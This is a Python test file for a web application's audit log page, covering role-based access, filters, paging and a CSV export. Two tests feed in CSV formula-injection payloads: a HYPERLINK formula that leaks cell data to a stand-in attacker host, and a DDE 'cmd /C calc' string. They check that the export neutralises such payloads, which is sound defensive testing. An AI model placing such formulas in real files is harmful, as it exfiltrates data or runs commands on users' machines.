"""The administrators' audit log page: who may see it and which entries (a unit's
administrator those about the unit, an installation administrator all), its filters and
pages, and the CSV export, which escapes formulas and is itself audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from urllib.parse import urlencode

import pytest
from bs4 import BeautifulSoup
from sqlmodel import Session, select

from mlat.audit_actions import AuditAction
from mlat.models import AuditEntry, Role
from mlat.services import audit
from tests.audit_trail import trail
from tests.conftest import (
    Client,
    LoginAs,
    MakeRequest,
    MakeUnit,
    MakeUser,
    PageClient,
    check_page,
    form_errors,
    rows,
    text_of,
    texts,
)


def entries(page: BeautifulSoup) -> list[dict[str, str]]:
    """The log's rows, newest first, each by its column heading."""
    if page.select_one("table.audit") is None:
        return []
    headings = texts(page, "table.audit thead th")
    return [dict(zip(headings, row, strict=True)) for row in rows(page, "table.audit")]


def menu(page: BeautifulSoup) -> list[str]:
    return texts(page, "header nav a")


# The administrators' log page --------------------------------------------------------------


@pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit.csv"])
@pytest.mark.parametrize("role", [Role.officer, Role.reviewer, Role.prosecutor])
def test_only_administrators_see_the_audit_log(
    client: Client, login_as: LoginAs, url: str, role: Role, db: Session
) -> None:
    login_as(role)
    response = client.get(url)
    assert response.status_code == 403
    assert text_of(check_page(response).h1) == "You do not have permission to do this."
    assert "Audit log" not in menu(check_page(client.get("/")))  # not offered in the menu
    assert "audit.export" not in [row[0] for row in trail(db)]


def test_admin_filters_the_log(
    client: Client,
    client_request: PageClient,
    login_as: LoginAs,
    make_user: MakeUser,
    make_request: MakeRequest,
    db: Session,
) -> None:
    officer = make_user(Role.officer)
    request = make_request(officer, title="Ransomware at a clinic")
    other = make_request(officer, title="Investment fraud")
    audit.record(session=db, action=AuditAction.request_view, user=officer, object_type="request",
                 object_id=other.id, at=dt.datetime(2026, 1, 10, 12, 0, tzinfo=dt.UTC))  # fmt: skip
    db.commit()
    client.login(officer.email, "a wrong password, twice")
    admin = login_as(Role.admin)

    page = client_request.get("/admin/audit")
    assert "Audit log" in menu(client_request.get("/"))  # the menu offers it
    actions = [entry["Action"] for entry in entries(page)]
    assert actions.index("login") < actions.index("request.create")  # newest first
    users = {entry["User"] for entry in entries(page)}
    assert {f"{officer.name} <{officer.email}>", f"{admin.name} <{admin.email}>"} <= users

    def listed(**args: str) -> list[dict[str, str]]:
        return entries(client_request.get("/admin/audit?" + urlencode(args)))

    by_user = listed(user=officer.email.upper())
    assert "request.create" in [e["Action"] for e in by_user]
    assert {e["User"] for e in by_user} == {f"{officer.name} <{officer.email}>"}
    by_action = listed(action="login")
    assert {e["Action"] for e in by_action} == {"login"}
    assert [e["Outcome"] for e in by_action].count("failure") == 1
    [by_object] = listed(object_type="request", object_id=str(request.id))
    assert (by_object["Action"], by_object["Object"]) == (
        "request.create",
        f"Request {request.reference}",
    )
    [by_date] = listed(date_from="2026-01-10", date_to="2026-01-10")
    assert by_date["Object"] == f"Request {other.reference}"
    empty = client_request.get("/admin/audit?date_from=2025-01-01&date_to=2025-01-02")
    assert entries(empty) == []
    assert "No entry matches these filters." in texts(empty, "main > p")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"user": "nobody@example.org"}, "No user has this e-mail address."),
        ({"user": "not an address"}, "Enter an e-mail address."),
        ({"date_from": "10/01/2026"}, "Not a valid date value."),
        ({"date_from": "2026-02-01", "date_to": "2026-01-01"}, "The end date is before"),
    ],
    ids=["unknown-user", "bad-email", "bad-date", "dates-reversed"],
)
def test_filters_that_do_not_fit_are_explained(
    client: Client, login_as: LoginAs, args: dict[str, str], message: str
) -> None:
    login_as(Role.admin)
    for url in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(url, query_string=args)
        assert response.status_code == 400
        page = check_page(response)
        assert any(error.startswith(message) for error in form_errors(page)), form_errors(page)
        assert text_of(page.select_one(".error-summary h2")) == "There is a problem"


def test_log_pages_newest_first(client_request: PageClient, login_as: LoginAs, db: Session) -> None:
    login_as(Role.installation_admin)  # the entries belong to no unit
    for n in range(120):
        audit.record(
            session=db, action=AuditAction.request_view, object_type="request", object_id=1000 + n
        )
    db.commit()
    first = client_request.get("/admin/audit?action=request.view")
    objects = [entry["Object"] for entry in entries(first)]
    assert objects == [f"request {n}" for n in range(1119, 1019, -1)]
    older = first.select_one('.pager a[rel="next"]')
    assert older is not None
    href = str(older["href"])
    assert "before_seq=" in href and "action=request.view" in href
    second = client_request.get(href)
    objects = [entry["Object"] for entry in entries(second)]
    assert objects == [f"request {n}" for n in range(1019, 999, -1)]
    assert second.select('.pager a[rel="next"]') == []
    assert texts(second, ".pager a") == ["Newest entries"]


def test_export_is_csv_escapes_formulas_and_is_itself_audited(
    client: Client, login_as: LoginAs, db: Session
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    client.login(formula, "whatever password")
    admin = login_as(Role.installation_admin)  # a failed login to no account is no unit's

    response = client.get("/admin/audit.csv", query_string={"action": "login"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["action"], r["outcome"]) for r in rows] == [
        ("login", "success"),
        ("login", "failure"),
    ]
    assert rows[1]["object_id"].startswith("'=")  # shown as text, never run
    assert rows[0]["user_id"] == str(admin.id)

    [export] = [e for e in db.exec(select(AuditEntry)) if e.action == "audit.export"]
    assert (export.user_id, export.object_type) == (admin.id, "audit")
    assert export.details == {"entries": 2, "filters": {"action": "login"}}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start: str) -> None:
    entry = AuditEntry(seq=1, at=dt.datetime(2026, 3, 1, tzinfo=dt.UTC), action=AuditAction.login,
                       object_type="email", object_id=f"{start}cmd|' /C calc'!A0",
                       prev_hash=audit.GENESIS, hash="")  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(audit.to_csv([entry]))))
    assert row["object_id"] == f"'{start}cmd|' /C calc'!A0"
    assert row["action"] == "login"


def test_the_log_shows_details_in_words(
    client_request: PageClient, login_as: LoginAs, make_user: MakeUser, db: Session
) -> None:
    officer = make_user(Role.officer)
    audit.record(session=db, action=AuditAction.packet_download,
                 user=officer, object_type="request",
                 object_id=7, details={"copy": "stored packet", "sha256": "ab" * 32})  # fmt: skip
    audit.record(session=db, action=AuditAction.request_search, user=officer, object_type="search",
                 details={"query": "mariam", "requests_shown": []})  # fmt: skip
    db.commit()
    login_as(Role.admin)

    page = client_request.get("/admin/audit?" + urlencode({"user": officer.email}))
    lists = page.select("table.audit dl.audit-details")
    pairs = [list(zip(texts(dl, "dt"), texts(dl, "dd"), strict=True)) for dl in lists]
    assert [("Searched for", "mariam"), ("Requests shown", "none")] in pairs
    assert [("Copy", "stored packet"), ("SHA-256", "ab" * 32)] in pairs
    html = str(page)
    assert "sha256" not in html and "requests_shown" not in html  # no raw keys


def test_the_export_has_the_details_as_json(client: Client, login_as: LoginAs, db: Session) -> None:
    audit.record(session=db, action=AuditAction.request_export, object_type="request", object_id=7,
                 details={"format": "JSON"})  # fmt: skip
    db.commit()
    login_as(Role.installation_admin)
    response = client.get("/admin/audit.csv", query_string={"action": "request.export"})
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert json.loads(row["details"]) == {"format": "JSON"}


def test_the_log_names_requests_by_reference_and_users_by_name(
    client_request: PageClient,
    login_as: LoginAs,
    make_user: MakeUser,
    make_request: MakeRequest,
    db: Session,
) -> None:
    officer = make_user(Role.officer)
    draft = make_request(officer)
    audit.record(session=db, action=AuditAction.request_view, user=officer,
                 object_type="request", object_id=draft.id)  # fmt: skip
    audit.record(session=db, action=AuditAction.request_view, user=officer,
                 object_type="user", object_id=officer.id)  # fmt: skip
    db.commit()
    login_as(Role.admin)
    page = client_request.get("/admin/audit?" + urlencode({"user": officer.email}))
    objects = [row["Object"] for row in entries(page)]
    assert f"Request {draft.reference}" in objects
    assert f"User {officer.name}" in objects
    assert f"request {draft.id}" not in objects


def test_a_units_admin_reads_the_entries_about_their_unit_only(
    client: Client,
    client_request: PageClient,
    login_as: LoginAs,
    make_unit: MakeUnit,
    make_user: MakeUser,
    make_request: MakeRequest,
    db: Session,
) -> None:
    """What the unit's users did, what was done to them and to the unit (whoever did it),
    and failed logins to their accounts; not another unit's, nor the chain's head."""
    lagos = make_unit(name="Economic Crime Unit, Lagos", code="LOS", state="NG")
    doha_officer, lagos_officer = make_user(Role.officer), make_user(Role.officer, unit_=lagos)
    chief = make_user(Role.installation_admin)  # of Doha, acting on Lagos
    doha_request = make_request(doha_officer, title="Ransomware at a clinic")
    lagos_request = make_request(lagos_officer, title="Romance fraud ring")
    audit.record(session=db, action=AuditAction.user_password_reset, user=chief,
                 unit_id=lagos.id, object_type="user", object_id=lagos_officer.id)  # fmt: skip
    audit.record(session=db, action=AuditAction.user_update, user=chief,
                 object_type="user", object_id=lagos_officer.id)  # fmt: skip
    db.commit()
    client.login(lagos_officer.email, "a wrong password")
    admin = login_as(Role.admin, unit_=lagos)

    page = client_request.get("/admin/audit")
    shown = entries(page)
    objects = {e["Object"] for e in shown}
    assert f"Request {lagos_request.reference}" in objects
    assert f"Request {doha_request.reference}" not in objects
    assert f"User {doha_officer.name}" not in objects
    by_chief = [e["Action"] for e in shown if e["User"] == f"{chief.name} <{chief.email}>"]
    assert sorted(by_chief) == ["user.password_reset", "user.update"]
    failed = [e for e in shown if e["Action"] == "login" and e["Outcome"] == "failure"]
    assert [e["Object"] for e in failed] == [f"email {lagos_officer.email}"]
    assert not [e for e in shown if e["User"] == f"{doha_officer.name} <{doha_officer.email}>"]
    assert "Newest entry:" not in page.get_text()  # the installation's, not the unit's
    # another unit's people cannot be looked up, and the export is the same selection
    unknown = client.get("/admin/audit", query_string={"user": doha_officer.email})
    assert unknown.status_code == 400
    exported = client.get("/admin/audit.csv", query_string={"action": "request.create"})
    assert [r["object_id"] for r in csv.DictReader(io.StringIO(exported.text))] == [
        str(lagos_request.id)
    ]
    # the installation administrator reads every unit's entries, and the chain's head
    assert client.post("/logout", data={"csrf_token": _token(client)}).status_code == 302
    assert client.login(chief.email).status_code == 302
    everything = client_request.get("/admin/audit?action=request.create")
    assert {e["Object"] for e in entries(everything)} == {
        f"Request {doha_request.reference}", f"Request {lagos_request.reference}"
    }  # fmt: skip
    assert "Newest entry:" in everything.get_text()
    assert admin.unit_id == lagos.id


def _token(client: Client) -> str:
    found = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get("/").text)
    assert found
    return found.group(1)
